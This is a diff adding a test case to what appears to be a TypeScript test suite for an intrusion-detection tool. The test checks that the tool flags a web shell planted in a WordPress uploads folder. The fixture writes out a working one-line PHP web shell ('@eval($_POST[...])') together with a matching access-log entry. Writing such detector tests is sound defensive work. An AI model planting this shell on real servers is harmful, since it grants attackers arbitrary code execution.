@@ -227,6 +227,23 @@ const evidence: readonly Evidence[] = [
     }),
     told: `ssh-brute-force confirmed root ${attacker}`,
   },
+  {
+    name: 'a web shell in a folder of uploads, by what its page holds',
+    files: () => ({
+      ...debian,
+      'var/log/apache2/access.log': `${attacker} - - [${clf(0.5)}] "POST /wp-content/uploads/2024/X1.php HTTP/1.1" 200 12 "-" "curl/8"\n`,
+      'var/www/html/wp-content/uploads/2024/X1.php': '<?php @eval($_POST["c"]); ?>',
+      ...job('www-data'),
+    }),
+    told: `web-shell probable root ${attacker}`,
+    // The folder is the test's own, so the page is root's and not the server's.
+    also: ({ entry = [] }) => {
+      expect(entry[0]?.missing).toEqual(['owner-differs']);
+      expect(entry[0]?.chain.map(({ text }) => String(text))).toContain(
+        '/var/www/html/wp-content/uploads/2024/X1.php',
+      );
+    },
+  },
 ];
 
 const strange: readonly Evidence[] = [
